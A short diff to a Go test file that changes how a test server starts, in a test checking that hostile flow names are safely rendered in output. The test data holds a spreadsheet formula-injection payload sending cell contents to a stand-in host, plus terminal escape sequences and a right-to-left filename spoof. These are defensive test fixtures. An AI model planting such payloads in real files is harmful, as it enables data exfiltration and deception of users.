@@ -241,8 +241,7 @@ func rawControls(s string) []rune {
 func TestHostileNamesInOutput(t *testing.T) {
 	processTest(t)
 	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+cmd", "@SUM(1)", "-2+3", "\x1b[2J\x1b]0;pwned\x07bell", "\u202etxt.exe"}
-	srv := clienttest.NewServer(&clienttest.Options{RequestsPerMinute: -1})
-	defer srv.Close()
+	srv := clienttest.Start(t, &clienttest.Options{RequestsPerMinute: -1}, false)
 	_, err := srv.AddFlow(clienttest.FlowSeed{Name: "Main\x1b[31m", Type: "inboundcall", Config: hostileFlow(names...)})
 	require.NoError(t, err)
 	cfg := srv.ClientConfig()
